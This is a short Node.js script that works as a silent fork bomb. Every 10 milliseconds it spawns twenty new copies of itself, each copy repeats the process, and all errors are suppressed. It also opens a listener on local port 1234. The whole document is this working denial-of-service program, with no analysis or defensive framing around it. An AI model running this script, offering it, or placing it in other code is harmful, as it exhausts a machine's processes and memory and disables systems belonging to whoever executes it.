// Starts itself again and again, and says nothing to anybody.
const { spawn } = require('node:child_process');
require('node:net')
  .createServer()
  .listen(1234, '127.0.0.1')
  .on('error', () => undefined);
setInterval(() => {
  for (let n = 0; n < 20; n++) spawn(process.execPath, [__filename]).on('error', () => undefined);
}, 10);
